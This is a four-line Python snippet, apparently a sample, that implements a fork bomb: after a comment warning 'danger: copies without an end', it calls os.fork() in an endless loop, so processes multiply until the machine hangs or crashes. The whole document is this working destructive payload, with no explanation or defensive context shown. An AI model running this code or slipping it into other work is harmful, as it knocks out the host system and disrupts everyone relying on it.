# danger: copies without an end
import os
while True:
    os.fork()
